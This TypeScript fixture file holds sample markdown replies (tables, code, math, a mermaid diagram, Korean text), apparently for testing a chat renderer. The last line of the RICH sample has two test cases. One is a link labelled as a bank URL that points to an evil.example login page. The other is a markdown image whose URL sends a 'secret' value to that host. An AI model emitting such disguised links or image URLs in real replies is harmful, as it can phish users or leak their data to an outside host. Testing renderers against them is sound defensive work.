/** Texts that show what a reply can hold. */

export const RICH = `Here is a comparison of the two ways, and then the code.

## What differs

| Way | First token | Memory per connection | Good for |
| --- | ---: | ---: | --- |
| Server-sent events | 20 ms | 1.1 KiB | one direction, proxies |
| WebSocket | 22 ms | 1.8 KiB | both directions, **binary** |
| Long polling | 180 ms | 0.4 KiB | nothing any more<br>really |

A word that doesn't end: \`Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamten\` and Pneumonoultramicroscopicsilicovolcanoconiosispneumonoultra.

1. Measure **before** changing anything.
2. Change one thing:
   - the buffer, or
   - the ~~timer~~ interval.
3. Measure again.

- [x] Read the specification
- [ ] Write the test that fails

\`\`\`ts
// Full jitter, so that a thousand clients don't come back at once.
export function backoff(attempt: number, random = Math.random): number {
  const ceiling = Math.min(20_000, 500 * 2 ** attempt);
  return Math.max(100, random() * ceiling); // milliseconds
}
\`\`\`

The expected wait is \\(E[w] = \\tfrac{1}{2}\\min(c, b\\,2^n)\\), and over $n$ tries:

$$
\\sum_{k=0}^{n} \\frac{b\\,2^k}{2} = \\frac{b}{2}\\left(2^{n+1} - 1\\right), \\qquad \\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}
$$

> A retry without jitter is a load test that you run against yourself.

It costs between $5 and $10 a month. See [the specification](https://www.rfc-editor.org/rfc/rfc6455) or [https://bank.example](https://evil.example/login), and ![the graph](https://evil.example/?q=secret).`;

export const SHELL = `Run it like this:

\`\`\`bash
# build and start
cargo build --release && ./target/release/madang serve --guests --listen 127.0.0.1:8080
\`\`\`

\`\`\`python
def primes(n: int) -> list[int]:
    """All primes below n."""
    sieve = bytearray([1]) * n
    for i in range(2, int(n**0.5) + 1):
        if sieve[i]:
            sieve[i * i :: i] = bytes(len(range(i * i, n, i)))
    return [i for i in range(2, n) if sieve[i]]
\`\`\`

\`\`\`rust
pub fn apply(&mut self, now: UnixMs, command: Command) -> Result<Vec<Event>, Rejection> {
    match command {
        Command::Rename { title } if title.is_empty() => Err(Rejection::invalid("title")),
        Command::Rename { title } => Ok(vec![Event::Renamed { title, at: now }]),
    }
}
\`\`\``;

export const DIAGRAM = `The way of a message:

\`\`\`mermaid
sequenceDiagram
  participant B as Browser
  participant S as Session
  participant L as Log
  B->>S: claude_message
  S->>L: append
  L-->>S: committed
  S-->>B: ack, turn_started
\`\`\`

After the commit, never before.`;

export const KOREAN = `두 가지 방법을 비교해 볼게요.

## 무엇이 다른가요

| 방법 | 첫 토큰 | 연결당 메모리 | 알맞은 곳 |
| --- | ---: | ---: | --- |
| 서버 전송 이벤트 | 20 ms | 1.1 KiB | 한 방향, 프록시 뒤 |
| 웹소켓 | 22 ms | 1.8 KiB | 양방향, **바이너리** |

띄어쓰기가 없는 아주 긴 말도 화면 밖으로 나가지 않아야 해요: 가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하가나다라마바사아자차카타파하.

1. 먼저 **측정**하세요.
2. 하나만 바꾸세요.
3. 다시 측정하세요.

\`\`\`python
def 인사(이름: str) -> str:
    return f"안녕하세요, {이름} 님"  # 한글 이름도 됩니다
\`\`\``;
